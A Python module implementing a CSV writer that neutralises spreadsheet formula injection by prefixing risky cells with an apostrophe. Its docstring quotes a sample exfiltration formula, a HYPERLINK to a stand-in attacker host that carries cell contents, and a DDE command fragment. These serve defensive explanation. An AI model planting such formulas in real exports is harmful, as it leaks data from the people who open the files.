"""CSV files that are safe to open in a spreadsheet: the one writer every CSV download uses.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula ("CSV injection": a measure named
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would run on the reader's machine).
Such a cell is written with a leading apostrophe (``'=HYPERLINK(…)``), which spreadsheets
show as text, as OWASP recommends.

Numbers are data, not formulas: a cell that is entirely a plain number (``-3.5``,
``+2``, ``1e-3``; a Python int, float or Decimal) is written as it is, so negative
values stay numbers in open data. Everything else that starts with a trigger character is
prefixed, including ``-2+3`` or ``-1+cmd|...`` (not a plain number).

Use :func:`writer` instead of ``csv.writer``; :func:`safe_cell` for one value.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell no spreadsheet runs as a formula."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """``csv.writer`` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, **kwargs: Any) -> SafeWriter:
    return SafeWriter(out, **kwargs)
